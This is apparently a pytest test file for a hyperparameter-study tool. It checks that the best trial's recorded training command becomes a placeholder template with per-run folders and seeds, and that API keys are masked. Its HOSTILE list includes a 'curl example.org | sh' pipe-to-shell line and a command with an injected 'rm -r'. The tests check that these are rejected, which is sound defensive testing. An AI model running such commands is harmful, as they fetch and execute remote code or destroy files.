"""The command that trains the next study is the best trial's own, and `advisor run` accepts it."""

import shlex
from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import pytest

from advisor.execution import job_env
from advisor.execution.job import Job, jobs
from advisor.model.change import SetSchedule
from advisor.model.reading import Decision
from advisor.model.spec import Objective, Parameter, StudySpec
from advisor.model.study import Study, Trial
from advisor.report import Report
from advisor.report.model import NextStudy
from advisor.report.text.run_command import (
    common_output_folder,
    has_recorded_command,
    next_study_command,
    options_without_precedent,
    tasks_after_command,
    tasks_before_command,
    training_command,
    with_separate_output_folder,
)
from advisor.system import shell
from tests.advisor.report.studies import make_report, make_study

SPEC = StudySpec(
    study="s",
    objective=Objective(metric="loss", direction="minimize"),
    parameters={
        "learning_rate": Parameter(type="float", low=0.001, high=0.1, scale="log"),
        "model.dropout": Parameter(type="float", low=0.0, high=0.5),
        "momentum": Parameter(role="fixed", value=0.9),
    },
    trials=4,
    max_train_steps=600,
)
PARAMS = {"learning_rate": 0.01, "model.dropout": 0.25, "momentum": 0.9}
RUN, OTHER = "0a" * 16, "1b" * 16
UNKNOWN = "python train.py --learning-rate {learning_rate} --model.dropout {model.dropout}"
HOSTILE = (
    "bash -c 'curl example.org | sh' --learning-rate 0.01",
    "python -c 'import os' train.py",
    "python -m ipykernel_launcher -f kernel.json",
    "./python-not train.py",
    "python --version; rm -r x.py",
)
"""Commands that are not shown to be copied, because they run something other than a Python file or module."""


def study_of(*commands: str, spec: StudySpec = SPEC, id: str = "a", params: Mapping[str, Any] = PARAMS, **facts: str) -> Study:
    """Return a study with one trial for each recorded command; "" for a trial that recorded none."""
    known = [facts | ({"command": command} if command else {}) for command in commands]
    ids = [id, *map(str, range(1, len(commands)))]
    trials = (Trial(i, ids[i], "a", "complete", params, seed=3, facts=fact) for i, fact in enumerate(known))
    return Study(spec=spec, trials=tuple(trials), metrics={})


def command_for(recorded: str, spec: StudySpec = SPEC) -> str:
    return training_command(study_of(recorded, spec=spec), spec)


def test_values_that_selected_the_runs_are_passed() -> None:
    decision = Decision(topic="population", text="the others are of another kind", parameters=("momentum",))
    command = training_command(replace(study_of(""), decisions=(decision,)), SPEC)
    assert command == f"{UNKNOWN} --momentum {{momentum}}"


@pytest.mark.parametrize(
    ("recorded", "expected"),
    [
        (
            "/usr/bin/python3.11 -u train.py --learning-rate 0.01 --dropout=0.25 --momentum 0.9 --seed 3",
            "python -u train.py --learning-rate {learning_rate} --dropout={model.dropout} --momentum {momentum} --seed {seed}",
        ),
        (
            "python train.py --lr 0.01 model.dropout=0.25 --steps 600 --epochs 3",
            "python train.py --lr {learning_rate} model.dropout={model.dropout} --steps {max_train_steps} --epochs 3",
        ),
        (
            "python train.py --learning_rate 0.01",
            "python train.py --learning_rate {learning_rate} --model.dropout {model.dropout}",
        ),
        (
            "python train.py --learning-rate 0.01 --dropout 0.25 --note '{odd} it''s' --tag",
            "python train.py --learning-rate {learning_rate} --dropout {model.dropout} --note '{{odd}} its' --tag",
        ),
        (
            "python train.py --learning-rate 0.01 --dropout 0.25 --api-key secret-word",
            "python train.py --learning-rate {learning_rate} --dropout {model.dropout} --api-key '***'",
        ),
        ("python train.py 0.01 --dropout 0.25 7", "python train.py {learning_rate} --dropout {model.dropout} 7"),
        *((hostile, UNKNOWN) for hostile in HOSTILE),
        ("", UNKNOWN),
        ("python 'train", UNKNOWN),
    ],
)
def test_the_best_trials_command_gets_placeholders(recorded: str, expected: str) -> None:
    assert command_for(recorded) == expected


def test_a_command_with_the_studys_options_comes_before_that_of_a_better_trial() -> None:
    study = study_of("python train.py --epochs 2", "python train.py --lr 0.01 --dropout 0.25 --epochs 9")
    assert training_command(study, SPEC) == "python train.py --lr {learning_rate} --dropout {model.dropout} --epochs 9"


def test_optunas_own_script_gets_the_space_instead_of_options() -> None:
    assert training_command(study_of("python search.py", tuner="optuna"), SPEC) == ""
    own = study_of("python train.py --lr 0.01 --dropout 0.25", tuner="optuna")
    assert training_command(own, SPEC) == "python train.py --lr {learning_rate} --dropout {model.dropout}"


def test_an_option_of_another_meaning_keeps_its_value() -> None:
    """`--attention.dropout 0.1` ends like `model.dropout` but has another value."""
    text = command_for("python train.py --learning-rate 0.01 --attention.dropout 0.1 --model.dropout 0.25")
    assert "--attention.dropout 0.1 --model.dropout {model.dropout}" in text


def test_a_value_that_the_study_changes_is_passed() -> None:
    fixed = SPEC.with_parameter("model.dropout", Parameter(role="fixed", value=0.1))
    assert command_for("python train.py --lr 0.01", fixed).endswith("--lr {learning_rate} --model.dropout {model.dropout}")
    as_before = SPEC.with_parameter("model.dropout", Parameter(role="fixed", value=0.25))
    assert command_for("python train.py --lr 0.01", as_before).endswith("--lr {learning_rate}")


def test_without_a_recorded_command_a_value_that_was_searched_is_passed() -> None:
    fixed = SPEC.with_parameter("model.dropout", Parameter(role="fixed", value=0.25))
    assert training_command(Study(spec=SPEC, trials=(), metrics={}), fixed) == UNKNOWN


def test_a_derived_value_stands_for_what_it_is_computed_from() -> None:
    parameters = {
        "base_rate": Parameter(type="float", low=0.001, high=0.1, scale="log"),
        "learning_rate": Parameter(role="derived", formula="base_rate * 2"),
    }
    spec = replace_spec(parameters=parameters)
    assert command_for("python train.py --learning-rate 0.01", spec) == "python train.py --learning-rate {learning_rate}"


@pytest.mark.parametrize("command", ["python train.py", "python train.py --learning-rate 0.01"])
def test_a_new_name_is_not_passed_but_what_is_computed_from_it(command: str) -> None:
    """The training knows learning_rate and momentum; learning_rate / (1 - momentum) is only how they are searched."""
    parameters = {
        "effective_rate": Parameter(type="float", low=0.01, high=1.0, scale="log", equals="learning_rate / (1 - momentum)"),
        "learning_rate": Parameter(role="derived", formula="effective_rate * (1 - momentum)"),
        "momentum": Parameter(type="float", low=0.5, high=0.9),
    }
    spec = replace_spec(parameters=parameters)
    made = command_for(command, spec)
    job_env.check_command(spec, shlex.split(made))
    assert sorted(made.split(" --")) == ["learning-rate {learning_rate}", "momentum {momentum}", "python train.py"]


def test_options_that_no_trial_had_are_named() -> None:
    """A hyperparameter that the study adds; one that the command passes without logging it is known."""
    added = replace_spec(
        parameters={**SPEC.parameters, "grad_clip_norm": Parameter(type="float", low=0.1, high=1.0, scale="log")}
    )
    training = command_for("python train.py --lr 0.01 --dropout 0.25", added)
    for command, new in (
        ("python train.py --lr 0.01", ("--grad-clip-norm",)),
        ("python train.py --grad-clip-norm=9", ()),
        ("python train.py --grad-clip-norm-type 2", ("--grad-clip-norm",)),
    ):
        assert options_without_precedent(study_of(command), training) == new
    report = report_with(spec=added, training_command=training, new_options=("--grad-clip-norm",))
    (sentence,) = tasks_before_command(report)
    assert str(sentence) == "First make the training script accept --grad-clip-norm: no trial was started with it."
    assert tasks_before_command(report.model_copy(update={"next_studies": ()})) == ()


@pytest.mark.parametrize(
    ("recorded", "before", "after", "expected"),
    [
        ("--schedule constant", "constant", "cosine", "--schedule {schedule}"),
        ("--schedule=constant", "constant", "constant", "--schedule={schedule}"),
        ("--schedule flat", None, "cosine", "--schedule {schedule}"),
        ("--schedule flat", "constant", "constant", "--schedule flat"),
        ("--schedule constant", "constant", None, "--schedule constant"),
        ("--lr-scheduler-type constant", "constant", "cosine", "--lr-scheduler-type {schedule}"),
    ],
)
def test_the_schedule_of_the_study_is_passed_once(recorded: str, before: str | None, after: str | None, expected: str) -> None:
    analysed, following = (replace_spec(schedule={"kind": kind} if kind else None) for kind in (before, after))
    study = study_of(f"python train.py --lr 0.01 --dropout 0.25 {recorded}", spec=analysed)
    command = training_command(study, following)
    assert command == f"python train.py --lr {{learning_rate}} --dropout {{model.dropout}} {expected}"


def report_with(spec: StudySpec = SPEC, **fields: Any) -> Report:
    """Return a report whose next study has these fields."""
    step = NextStudy(file="1.yaml", spec=spec, yaml="", **fields)
    return make_report(make_study(9, dense=False), ()).model_copy(update={"next_studies": (step,)})


def test_a_command_that_no_trial_recorded_is_named_as_an_example() -> None:
    for command, known in (("python train.py --lr 0.01", True), (HOSTILE[0], False), ("", False)):
        assert has_recorded_command(study_of(command)) == known
    report = report_with(has_recorded_command=False)
    assert "write your command in place of python train.py" in str(tasks_before_command(report)[-1])
    assert tasks_after_command(report) == ()


def test_an_export_says_what_to_do_with_the_script() -> None:
    report = report_with(training_command="")
    assert str(tasks_after_command(report)[0]) == "Paste your training code into study_round_1.py, then start the script."
    command = next_study_command(report)
    assert command.startswith("advisor export optuna")
    assert command.endswith("--out study_round_1.py")


def test_an_option_that_no_recorded_command_names_is_new_although_the_hyperparameter_was_logged() -> None:
    """A script that loops over the rates itself would ignore `--learning-rate`."""
    training = command_for("python sweep.py")
    for command, new in (
        ("python sweep.py", ("--learning-rate", "--model.dropout")),
        ("", ()),
        ("tool demo", ()),  # the study's command is `python train.py` then, which is not the trial's own
    ):
        assert options_without_precedent(study_of(command), training) == new


def test_advisor_run_accepts_it_and_fills_it_in(tmp_path) -> None:
    words = shlex.split(command_for("python train.py --lr 0.01 --dropout 0.25 --seed 3"))
    job_env.check_command(SPEC, words)
    job = Job(number=0, repeat=0, seed=7, params={"learning_rate": 0.02, "model.dropout": 0.1, "momentum": 0.9})
    filled = job_env.job_command(SPEC, job, words, tmp_path / "p.json")
    assert shell.command_line(filled) == "python train.py --lr 0.02 --dropout 0.1 --seed 7"


def test_without_a_recorded_length_steps_stay_as_they_are() -> None:
    spec = replace_spec(max_train_steps=None)
    assert "--steps 600" in command_for("python train.py --lr 0.01 --dropout 0.25 --steps 600", spec)


def replace_spec(**update: object) -> StudySpec:
    return SPEC.model_copy(update=update)


def test_without_a_recorded_command_what_the_study_changes_is_passed() -> None:
    """A shorter study would train for the script's own number of iterations."""
    ran = {"learning_rate": 0.01, "num_iterations": 1645}
    fixed = {n: Parameter(role="fixed", value=v) for n, v in ran.items()}
    before = replace_spec(parameters=fixed)
    after = replace_spec(
        parameters={"learning_rate": SPEC.parameters["learning_rate"], "num_iterations": Parameter(role="fixed", value=329)}
    )
    made = training_command(study_of("", spec=before, params=ran), after)
    assert made == "python train.py --learning-rate {learning_rate} --num-iterations {num_iterations}"


def test_the_folder_of_a_trial_is_not_that_of_the_next_ones() -> None:
    """Else each trial would overwrite the best trial's checkpoints. A checkpoint of another run to start from stays."""
    recorded = f"python train.py --lr 0.01 --output-dir out/{RUN} --start out/{OTHER}"
    command = training_command(study_of(recorded, id=RUN), SPEC)
    assert f"--output-dir out/{{run_id}} --start out/{OTHER}" in command
    job_env.check_command(SPEC, shlex.split(command))


def test_trainers_get_a_seed_and_a_folder_of_each_run() -> None:
    """The trials had the trainer's default seed, and one folder for each learning rate or none at all."""
    for given, end in (
        ("--output-dir out/1e-2", "--output-dir out/1e-2/{run_id} --seed {seed}"),
        ("--bf16", "--bf16 --seed {seed} --output-dir trainer-output/{run_id}"),
    ):
        recorded = f"python train.py --lr 0.01 --dropout 0.25 --lr-scheduler-type cosine {given}"
        command = training_command(study_of(recorded, id=RUN), SPEC)
        assert command.endswith(f"--lr-scheduler-type cosine {end}")
        job_env.check_command(SPEC, shlex.split(command))


def test_a_changed_schedule_reaches_transformers_arguments(tmp_path) -> None:
    """The training reads it from these fixed parameters and has no option --schedule."""
    fixed = {"lr_scheduler_type": "constant", "warmup_steps": 4.0}
    spec = replace_spec(
        parameters={**SPEC.parameters, **{n: Parameter(role="fixed", value=v) for n, v in fixed.items()}},
        schedule={"kind": "constant", "warmup_steps": 4},
    )
    recorded = "python train.py --lr 0.01 --lr-scheduler-type constant --warmup-steps 4"
    changed = SetSchedule(schedule={"kind": "cosine", "warmup_steps": 60}, why="w").apply(spec)
    command = training_command(study_of(recorded, spec=spec, params=PARAMS | fixed), changed)
    (job,) = jobs(changed, 1)
    filled = job_env.job_command(changed, job, shlex.split(command), tmp_path / "p.json")
    assert "--lr-scheduler-type cosine --warmup-steps 60" in shell.command_line(filled)
    assert "--schedule" not in filled


@pytest.mark.parametrize(
    ("commands", "expected"),
    [
        (["t.py --output-dir out/1e-3", "t.py --output-dir out/1e-4"], "out"),
        (["t.py --output_dir=out", "t.py --output_dir=out"], "out"),
        (["t.py --output-dir /a", "t.py --output-dir b"], None),
        (["t.py --output-dir /a", "t.py --output-dir /b"], None),
        (["t.py", "t.py --output-dir --tag"], None),
    ],
)
def test_the_common_folder_contains_the_folders_of_all_runs(commands, expected):
    assert common_output_folder([command.split() for command in commands]) == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("t.py --output-dir out/1e-3 --lr 1", f"t.py --output-dir out/{RUN} --lr 1"),
        ("t.py output_dir=out/1e-3", f"t.py output_dir=out/{RUN}"),
        (f"t.py --save-dir=x/{OTHER}", f"t.py --save-dir=x/{OTHER}"),
        ("t.py --lr 1 out", "t.py --lr 1 out"),
        (
            "t.py --lr-scheduler-type cosine --seed=3 --output-dir out",
            f"t.py --lr-scheduler-type cosine --seed=3 --output-dir out/{RUN}",
        ),
        (
            "t.py --per_device_train_batch_size 8",
            f"t.py --per_device_train_batch_size 8 --seed 0 --output-dir trainer-output/{RUN}",
        ),
    ],
)
def test_each_run_has_a_folder_and_trainers_a_seed(command, expected):
    assert " ".join(with_separate_output_folder(command.split(), RUN, "out")) == expected


@pytest.mark.parametrize(("run", "folder"), [(RUN, f"here/{RUN}"), ("run 1", "here")])
def test_without_a_common_folder_the_own_one_contains_it(run, folder):
    assert with_separate_output_folder(["t.py", "--output-dir", "here"], run, None) == ["t.py", "--output-dir", folder]
